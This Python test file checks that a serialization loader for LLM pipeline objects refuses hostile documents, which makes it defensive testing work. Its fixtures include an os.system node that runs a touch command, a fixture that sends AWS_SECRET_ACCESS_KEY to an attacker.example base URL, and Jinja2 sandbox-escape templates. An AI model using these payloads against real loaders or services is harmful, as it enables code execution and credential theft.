"""Hostile documents: loading builds only allow-listed classes with their declared fields,
reads secrets only where a class declares one, and refuses everything else with a
LoadError naming the path."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from typing import Any

import pytest

from pipes import (
    HumanMessage,
    LoadError,
    PipesError,
    PromptTemplate,
    StrOutputParser,
    dumpd,
    load,
    loads,
)
from pipes_openai import ChatOpenAI


def node(id: list[str], **kwargs: Any) -> dict[str, Any]:
    return {"lc": 1, "type": "constructor", "id": id, "kwargs": kwargs}


def secret(name: str) -> dict[str, Any]:
    return {"lc": 1, "type": "secret", "id": [name]}


def refused(doc: Any, match: str, **options: Any) -> LoadError:
    with pytest.raises(LoadError, match=match) as info:
        load(doc, **options)
    return info.value


def test_load_error_is_a_value_error_in_the_tree() -> None:
    assert issubclass(LoadError, PipesError)
    assert issubclass(LoadError, ValueError)


@pytest.mark.parametrize(
    "id",
    [
        ["os", "system"],
        ["builtins", "eval"],
        ["subprocess", "Popen"],
        ["langchain", "schema", "runnable", "RunnableLambda"],
        ["langchain_core", "runnables", "base", "RunnableLambda"],
        ["langchain_community", "llms", "openai", "OpenAI"],
        ["langchain", "schema", "messages", "NotAMessage"],
        ["pipes", "_core", "_lambda", "RunnableLambda"],
        ["pipes", "testing", "FunctionChatModel"],
    ],
)
def test_ids_outside_the_allow_list_are_refused_without_importing(id: list[str]) -> None:
    before = set(sys.modules)
    error = refused(
        node(id, command="touch /tmp/pwned"), "is (outside the namespaces|not a class pipes loads)"
    )
    assert error.path == "$"
    # nothing named by the document was imported (only pipes' own modules, on first use)
    assert {name.split(".")[0] for name in set(sys.modules) - before} <= {"pipes", "pipes_openai"}


def test_nothing_is_imported_or_run_for_an_os_system_document(tmp_path: Any) -> None:
    marker = tmp_path / "pwned"
    doc = node(["os", "system"], command=f"touch {marker}")
    for variant in (doc, node(["langchain", "os", "system"], command=f"touch {marker}")):
        with pytest.raises(LoadError):
            load(variant)
    assert not marker.exists()


def test_nested_refusals_name_their_path() -> None:
    doc = node(
        ["langchain", "schema", "runnable", "RunnableSequence"],
        first=node(["langchain", "schema", "output_parser", "StrOutputParser"]),
        last=node(["os", "system"]),
    )
    assert refused(doc, r"os\.system").path == "$.kwargs.last"


def test_kwargs_that_are_not_declared_fields_are_refused() -> None:
    error = refused(
        node(["langchain", "schema", "messages", "HumanMessage"], content="hi", __class__="x"),
        r"HumanMessage has no field '__class__'; its fields are \[",
    )
    assert error.path == "$"
    refused(
        node(["langchain", "schema", "output_parser", "StrOutputParser"], callbacks=[1]),
        "StrOutputParser has no field 'callbacks'",
    )
    refused(
        node(["langchain", "chat_models", "openai", "ChatOpenAI"], __init__={"a": 1}),
        "ChatOpenAI has no field '__init__'",
    )
    # a declared field still validates its value: no client is built from data
    refused(
        node(["langchain", "chat_models", "openai", "ChatOpenAI"], http_client={"a": 1}),
        r"cannot build ChatOpenAI from its kwargs:\n  - http_client: Input should be an instance",
    )


def test_a_field_with_a_bad_value_is_refused_with_the_cause() -> None:
    error = refused(
        node(["langchain", "schema", "messages", "HumanMessage"], content=12), "HumanMessage"
    )
    assert error.__cause__ is not None


@pytest.mark.parametrize(
    "doc",
    [
        {"lc": 1, "type": "constructor", "id": "os.system"},
        {"lc": 1, "type": "constructor", "id": [1, 2]},
        {"lc": 1, "type": "constructor", "id": []},
        {"lc": 1, "type": "constructor", "id": ["langchain"] * 100},
        {
            "lc": 1,
            "type": "constructor",
            "id": ["langchain", "schema", "messages", "HumanMessage"],
            "kwargs": [],
        },
        {
            "lc": 1,
            "type": "constructor",
            "id": ["langchain", "schema", "messages", "HumanMessage"],
            "exec": "x",
        },
        {"lc": 2, "type": "constructor", "id": ["langchain", "schema", "messages", "HumanMessage"]},
    ],
)
def test_malformed_nodes_are_refused(doc: dict[str, Any]) -> None:
    with pytest.raises(LoadError):
        load(doc)


def test_secret_references_outside_secret_fields_are_refused(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "aws-value")
    doc = node(
        ["langchain", "schema", "messages", "HumanMessage"], content=secret("AWS_SECRET_ACCESS_KEY")
    )
    refused(doc, "secret reference .* is read only in a secret field")
    refused(doc, "secret reference", secrets_map={"AWS_SECRET_ACCESS_KEY": "x"})


def test_a_document_cannot_send_another_environment_variable_to_its_server(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # The classic exfiltration: the key field names a variable that is not the key's, and
    # base_url points at the attacker.
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "aws-value")
    doc = node(
        ["langchain", "chat_models", "openai", "ChatOpenAI"],
        openai_api_key=secret("AWS_SECRET_ACCESS_KEY"),
        openai_api_base="http://attacker.example/v1",
    )
    error = refused(doc, r"only OPENAI_API_KEY is read from the environment")
    assert "aws-value" not in str(error)
    headers = node(
        ["langchain", "chat_models", "openai", "ChatOpenAI"],
        openai_api_key="sk-x",
        default_headers={"Authorization": secret("AWS_SECRET_ACCESS_KEY")},
    )
    refused(headers, "'AWS_SECRET_ACCESS_KEY' for ChatOpenAI.default_headers")


def test_not_implemented_nodes_are_refused_unless_asked_to_ignore() -> None:
    lam = {
        "lc": 1,
        "type": "not_implemented",
        "id": ["pipes", "_core", "_lambda", "RunnableLambda"],
    }
    refused(lam, "RunnableLambda was written as not_implemented")
    assert load(lam, ignore_unserializable_fields=True) is None


@pytest.mark.parametrize(
    "exc_id",
    [["os", "system"], ["builtins", "eval"], ["builtins", "object"], ["pipes", "load"], ["x"]],
)
def test_only_exception_classes_are_read_as_exception_types(exc_id: list[str]) -> None:
    doc = node(
        ["langchain", "schema", "runnable", "RunnableRetry"],
        bound=node(["langchain", "schema", "output_parser", "StrOutputParser"]),
        retry_exception_types=[{"lc": 1, "type": "not_implemented", "id": exc_id}],
    )
    refused(doc, "is not an exception class pipes loads")


def test_exception_types_are_read_nowhere_else() -> None:
    doc = node(
        ["langchain", "schema", "runnable", "RunnableSequence"],
        first={"lc": 1, "type": "not_implemented", "id": ["builtins", "ValueError"]},
        last=node(["langchain", "schema", "output_parser", "StrOutputParser"]),
    )
    refused(doc, "ValueError was written as not_implemented")


@pytest.mark.parametrize(
    ("template", "template_format"),
    [
        ("{{ x.__class__.__mro__ }}", "jinja2"),
        ("{{ cycler.__init__.__globals__.os }}", "jinja2"),
        ("{{ x['__class__'] }}", "jinja2"),
        ("{{ x._private }}", "jinja2"),
        ("{{ x|attr('__class__') }}", "jinja2"),
        ("{x.__class__}", "f-string"),
        ("{x[0]}", "f-string"),
        ("{% include 'secrets.txt' %}", "jinja2"),
    ],
)
def test_templates_that_try_to_escape_are_refused(template: str, template_format: str) -> None:
    doc = node(
        ["langchain", "prompts", "prompt", "PromptTemplate"],
        template=template,
        template_format=template_format,
    )
    error = refused(doc, "cannot build PromptTemplate")
    assert error.__cause__ is not None
    # the same inside a chat prompt's message template, with its path
    chat = node(
        ["langchain", "prompts", "chat", "ChatPromptTemplate"],
        messages=[node(["langchain", "prompts", "chat", "HumanMessagePromptTemplate"], prompt=doc)],
    )
    assert refused(chat, "PromptTemplate").path == "$.kwargs.messages[0].kwargs.prompt"


def test_a_name_computed_at_render_time_is_refused_by_the_sandbox() -> None:
    from pipes import UnsafeTemplateError

    doc = node(
        ["langchain", "prompts", "prompt", "PromptTemplate"],
        template='{{ x["__cla" ~ "ss__"] }}',
        template_format="jinja2",
    )
    with pytest.raises(UnsafeTemplateError, match="sandbox forbids"):
        load(doc).format(x={})


def test_a_plain_jinja2_template_loads() -> None:
    doc = node(
        ["langchain", "prompts", "prompt", "PromptTemplate"],
        template="{{ x.y }}",
        template_format="jinja2",
    )
    assert load(doc).format(x={"y": "ok"}) == "ok"


def test_nesting_is_bounded() -> None:
    deep: Any = "x"
    for _ in range(300):
        deep = [deep]
    refused(deep, "nested more than 200 levels deep")
    assert load(deep, max_depth=400) == deep
    doc: Any = HumanMessage("x")
    wrapped = dumpd(doc)
    for _ in range(60):
        wrapped = {"a": {"b": wrapped}}
    refused(wrapped, "nested more than 100", max_depth=100)


def test_an_absurdly_deep_json_text_fails_cleanly() -> None:
    code = (
        "import sys; from pipes import loads, LoadError\n"
        "try:\n    loads('[' * 200000 + ']' * 200000)\n"
        "except LoadError as e:\n    print('refused', type(e.__cause__).__name__)\n"
    )
    result = subprocess.run(
        [sys.executable, "-c", code],
        capture_output=True,
        text=True,
        timeout=60,
        env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)},
    )
    assert result.stdout.strip() == "refused RecursionError", result.stderr


def test_bad_json_text_is_a_load_error() -> None:
    with pytest.raises(LoadError, match="not a JSON document"):
        loads("{nope")


def test_allowed_objects_narrow_what_is_built() -> None:
    message = dumpd(HumanMessage("hi"))
    parser = dumpd(StrOutputParser())
    model = dumpd(ChatOpenAI(api_key="sk-x"))
    assert load(message, allowed_objects="messages") == HumanMessage("hi")
    refused(parser, "not in allowed_objects", allowed_objects="messages")
    assert isinstance(load(parser, allowed_objects="core"), StrOutputParser)
    refused(
        model, "not in allowed_objects", allowed_objects="core", secrets_map={"OPENAI_API_KEY": "k"}
    )
    assert isinstance(load(parser, allowed_objects=[StrOutputParser]), StrOutputParser)
    refused(message, "not in allowed_objects", allowed_objects=[StrOutputParser])
    with pytest.raises(ValueError, match="allowed_objects must be"):
        load(message, allowed_objects="everything")  # type: ignore[arg-type]


def test_valid_namespaces_is_a_list() -> None:
    with pytest.raises(TypeError, match=r"pass \['acme'\]"):
        load({}, valid_namespaces="acme")


def test_json_values_only() -> None:
    refused({"a": object()}, "object is not a JSON value")


def test_the_escape_wrapper_is_never_revived() -> None:
    payload = {"__lc_escaped__": node(["os", "system"], command="x")}
    assert load(payload) == node(["os", "system"], command="x")
    assert loads(json.dumps([payload])) == [node(["os", "system"], command="x")]


def test_prompt_input_variables_must_match_the_template() -> None:
    doc = node(
        ["langchain", "prompts", "prompt", "PromptTemplate"],
        template="{a}",
        input_variables=["a", "os"],
        template_format="f-string",
    )
    refused(doc, "do not match the variables")


def test_an_unknown_template_format_is_refused() -> None:
    doc = node(
        ["langchain", "prompts", "prompt", "PromptTemplate"], template="x", template_format="python"
    )
    refused(doc, "cannot build PromptTemplate")


def test_a_prompt_template_value_is_never_formatted_on_load() -> None:
    # partial variables are data: a template-looking value is not rendered when loading
    doc = node(
        ["langchain", "prompts", "prompt", "PromptTemplate"],
        template="{a} {b}",
        partial_variables={"b": "{{ x.__class__ }}"},
    )
    assert load(doc).format(a="1") == "1 {{ x.__class__ }}"


def test_tools_are_not_serializable() -> None:
    from pipes import tool

    @tool
    def add(a: int, b: int) -> int:
        """Add two numbers."""
        return a + b

    data = dumpd(add)
    assert data["type"] == "not_implemented"
    assert data["name"] == "add"
    refused(data, "was written as not_implemented")
    assert "repr" not in data  # a repr could carry what the object holds


def test_lambdas_are_written_as_not_implemented_and_refused() -> None:
    from pipes import RunnableLambda

    chain = PromptTemplate.from_template("{x}") | RunnableLambda(lambda v: v)
    data = dumpd(chain)
    assert data["kwargs"]["last"]["type"] == "not_implemented"
    assert data["kwargs"]["last"]["id"][-1] == "RunnableLambda"
    assert refused(data, "RunnableLambda was written as not_implemented").path == "$.kwargs.last"
